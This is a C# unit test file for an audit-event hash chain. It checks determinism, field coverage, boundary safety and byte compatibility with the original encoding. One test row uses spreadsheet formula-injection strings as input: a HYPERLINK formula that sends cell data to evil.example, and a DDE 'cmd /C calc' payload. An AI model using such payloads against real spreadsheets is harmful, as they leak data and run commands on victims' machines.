using ControlPlane.Core.Audit;
using ControlPlane.Core.Deployments;

namespace ControlPlane.UnitTests.Audit;

public sealed class AuditHashTests
{
    private static readonly DateTimeOffset At = new(2026, 3, 2, 9, 0, 0, TimeSpan.Zero);

    private static AuditEvent AnEvent(string actor = "alice", string? reason = "ship it") => new()
    {
        Sequence = 42,
        OccurredAt = At,
        Actor = actor,
        ActorKind = ActorKind.User,
        SourceIp = "10.0.0.7",
        Action = "deployment.approved",
        Application = "shop",
        DeploymentId = Guid.Parse("0195a0c4-0000-7000-8000-000000000001"),
        BeforeState = "AwaitingApproval",
        AfterState = "ReadyToSwitch",
        Reason = reason,
        Details = """{"approvals":1}""",
        PreviousHash = AuditHash.Genesis,
    };

    [Fact]
    public void TruncateToMicroseconds_drops_the_last_tick_digit_and_converts_to_utc()
    {
        var at = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.FromHours(1)).AddTicks(1_234_567);

        var truncated = AuditHash.TruncateToMicroseconds(at);

        Assert.Equal(TimeSpan.Zero, truncated.Offset);
        Assert.Equal(At.AddTicks(1_234_560), truncated);
        Assert.Equal(At.AddTicks(1_234_560).Ticks, truncated.UtcTicks);
    }

    [Fact]
    public void AuditEvent_Create_truncates_the_time_so_the_hash_matches_what_PostgreSQL_stores()
    {
        var e = AuditEvent.Create(new Actor("alice", ActorKind.User), "x", At.AddTicks(19));

        Assert.Equal(At.AddTicks(10), e.OccurredAt);
    }

    [Fact]
    public void Compute_is_deterministic_lower_case_sha256_hex()
    {
        var hash = AuditHash.Compute(AnEvent());

        Assert.Equal(hash, AuditHash.Compute(AnEvent()));
        Assert.Matches("^[0-9a-f]{64}$", hash);
        Assert.NotEqual(AuditHash.Genesis, hash);
    }

    [Theory]
    [InlineData("sequence")]
    [InlineData("occurredAt")]
    [InlineData("actor")]
    [InlineData("actorKind")]
    [InlineData("sourceIp")]
    [InlineData("action")]
    [InlineData("application")]
    [InlineData("deploymentId")]
    [InlineData("beforeState")]
    [InlineData("afterState")]
    [InlineData("reason")]
    [InlineData("details")]
    [InlineData("previousHash")]
    public void Compute_changes_when_any_covered_field_changes(string field)
    {
        var e = AnEvent();
        Action change = field switch
        {
            "sequence" => () => e.Sequence = 43,
            "occurredAt" => () => e.OccurredAt = At.AddTicks(10),
            "actor" => () => e.Actor = "mallory",
            "actorKind" => () => e.ActorKind = ActorKind.Token,
            "sourceIp" => () => e.SourceIp = "10.0.0.8",
            "action" => () => e.Action = "deployment.aborted",
            "application" => () => e.Application = "shop2",
            "deploymentId" => () => e.DeploymentId = null,
            "beforeState" => () => e.BeforeState = "Verifying",
            "afterState" => () => e.AfterState = "Aborted",
            "reason" => () => e.Reason = "ship it!",
            "details" => () => e.Details = """{"approvals":2}""",
            "previousHash" => () => e.PreviousHash = new string('1', 64),
            _ => throw new ArgumentOutOfRangeException(nameof(field)),
        };
        var before = AuditHash.Compute(e);

        change();

        Assert.NotEqual(before, AuditHash.Compute(e));
    }

    [Fact]
    public void Compute_ignores_the_stored_hash_itself()
    {
        var e = AnEvent();
        var before = AuditHash.Compute(e);

        e.Hash = before;

        Assert.Equal(before, AuditHash.Compute(e));
    }

    [Fact]
    public void Compute_does_not_let_text_shift_across_a_field_boundary()
    {
        Assert.NotEqual(AuditHash.Compute(AnEvent(actor: "ab", reason: "c")), AuditHash.Compute(AnEvent(actor: "a", reason: "bc")));

        var left = AnEvent();
        left.Action = "deployment.approvedshop";
        left.Application = "";
        var right = AnEvent();
        right.Action = "deployment.approved";
        right.Application = "shop";
        Assert.NotEqual(AuditHash.Compute(left), AuditHash.Compute(right));
    }

    [Fact]
    public void Compute_distinguishes_a_missing_reason_from_an_empty_one()
    {
        Assert.NotEqual(AuditHash.Compute(AnEvent(reason: null)), AuditHash.Compute(AnEvent(reason: "")));
    }

    [Fact]
    public void Compute_hashes_the_same_instant_equally_in_any_offset()
    {
        var utc = AnEvent();
        var local = AnEvent();
        local.OccurredAt = At.ToOffset(TimeSpan.FromHours(-5));

        Assert.Equal(AuditHash.Compute(utc), AuditHash.Compute(local));
    }

    /// <summary>
    /// Every stored trail was hashed with this encoding (JsonSerializer over an object array); Compute writes it with a
    /// reused Utf8JsonWriter and must produce exactly the same bytes, or every existing chain would stop verifying.
    /// </summary>
    private static string ComputeAsFirstWritten(AuditEvent e) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(
        System.Text.Encoding.UTF8.GetBytes(System.Text.Json.JsonSerializer.Serialize(new object?[]
        {
            e.Sequence,
            e.OccurredAt.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", System.Globalization.CultureInfo.InvariantCulture),
            e.Actor, e.ActorKind.ToString(), e.SourceIp, e.Action, e.Application,
            e.DeploymentId?.ToString("D"), e.BeforeState, e.AfterState, e.Reason, e.Details, e.PreviousHash,
        }))));

    [Theory]
    [InlineData("alice", "ship it")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3\r\nsecond\rline\n", "@SUM(1+1)\ttab <script>&amp; 'single' \\ back\u0000nul\u001f")]
    [InlineData("é ü 日本 \U0001F680 \u2028\u2029", "")]
    [InlineData("\ud800 lone surrogate", null)]
    public void Compute_writes_the_bytes_the_chain_was_first_hashed_with(string actor, string? reason)
    {
        var e = AnEvent(actor, reason);
        e.Details = $$"""{"note":{{System.Text.Json.JsonSerializer.Serialize(reason + actor)}},"n":1.5e3}""";
        Assert.Equal(ComputeAsFirstWritten(e), AuditHash.Compute(e));

        e.SourceIp = null;
        e.Application = null;
        e.DeploymentId = null;
        e.BeforeState = null;
        e.AfterState = null;
        e.Details = null;
        e.Sequence = long.MaxValue;
        e.OccurredAt = new DateTimeOffset(2026, 12, 31, 23, 59, 59, TimeSpan.FromHours(14)).AddTicks(9_999_990);
        Assert.Equal(ComputeAsFirstWritten(e), AuditHash.Compute(e));
    }

    [Fact]
    public void Compute_gives_the_same_hash_on_every_thread()
    {
        var expected = ComputeAsFirstWritten(AnEvent());
        var hashes = new System.Collections.Concurrent.ConcurrentBag<string>();
        Parallel.For(0, 200, _ => hashes.Add(AuditHash.Compute(AnEvent())));
        Assert.All(hashes, h => Assert.Equal(expected, h));
    }
}
